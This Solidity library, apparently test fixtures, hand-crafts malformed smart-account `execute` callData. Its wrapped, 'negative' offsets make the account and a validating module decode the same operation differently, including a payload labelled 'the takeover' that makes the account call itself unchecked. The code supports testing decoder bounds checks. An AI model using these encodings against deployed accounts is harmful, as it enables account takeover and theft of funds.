// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @dev Hand-built `execute(bytes32 mode, bytes executionCalldata)` callData that the account and a module reading
/// the op inside the PackedUserOperation decode differently unless every pointer is bounded to its region. Positions
/// are relative to the start of callData: selector [0,4), mode [4,36), offset 0x40 [36,68), length [68,100),
/// executionCalldata from 100; a batch's array data (element pointers) then starts at 164.
library AdversarialEncodings {
    bytes4 internal constant EXECUTE = 0xe9ae5c53;
    bytes32 internal constant BATCH_MODE = bytes32(uint256(1) << 248);
    uint256 internal constant ARRAY_DATA = 164;

    /**
     * @notice The takeover: one batch element whose pointer is "negative", placing the element 27 bytes before callData.
     * @dev The account has nothing before callData: the target reads as zero (address(0), which OpenZeppelin's
     * executor sends to the account itself), the value as mode bytes (zero), and the data offset as 0x4000 (the tail
     * of the 0x40 offset word), so the account runs `payload` at callData position 0x4000 - 27 as a call to itself.
     * The module, reading inside the op, sees the bytes in front of callData as the target: some other address.
     */
    function negativeElementPointerBatch(bytes memory payload) internal pure returns (bytes memory callData) {
        uint256 element = uint256(-int256(27)); // 2^256 - 27
        uint256 pointer = element - ARRAY_DATA; // relative to the array data: wraps below zero
        uint256 dataAt = 0x4000 - 27; // where the account finds the data's length word
        uint256 executionLength = dataAt + 32 + payload.length - 100;
        callData = new bytes(100 + executionLength);
        _word(callData, 4, uint256(BATCH_MODE));
        _word(callData, 36, 0x40);
        _word(callData, 68, executionLength);
        _word(callData, 100, 0x20); // array at 0x20
        _word(callData, 132, 1); // one element
        _word(callData, 164, pointer);
        _word(callData, dataAt, payload.length);
        for (uint256 i; i < payload.length; ++i) {
            callData[dataAt + 32 + i] = payload[i];
        }
        callData[0] = EXECUTE[0];
        callData[1] = EXECUTE[1];
        callData[2] = EXECUTE[2];
        callData[3] = EXECUTE[3];
    }

    /**
     * @notice Checked data differs from executed data: one element in place, calling `target`, whose data offset points
     * 32 bytes before callData. The account reads a zero length there (empty data); the module reads callData's own
     * length word and then callData itself, which starts with `execute`'s selector.
     */
    function negativeDataOffsetBatch(address target) internal pure returns (bytes memory callData) {
        uint256 elementAt = ARRAY_DATA + 0x20;
        uint256 dataOffset = uint256(-int256(elementAt + 32)); // element + offset = -32
        uint256 executionLength = elementAt + 0x60 - 100;
        callData = new bytes(100 + executionLength);
        _word(callData, 4, uint256(BATCH_MODE));
        _word(callData, 36, 0x40);
        _word(callData, 68, executionLength);
        _word(callData, 100, 0x20);
        _word(callData, 132, 1);
        _word(callData, 164, 0x20);
        _word(callData, elementAt, uint256(uint160(target)));
        _word(callData, elementAt + 0x20, 0);
        _word(callData, elementAt + 0x40, dataOffset);
        callData[0] = EXECUTE[0];
        callData[1] = EXECUTE[1];
        callData[2] = EXECUTE[2];
        callData[3] = EXECUTE[3];
    }

    function _word(bytes memory buffer, uint256 position, uint256 value) private pure {
        assembly ("memory-safe") {
            mstore(add(add(buffer, 0x20), position), value)
        }
    }
}
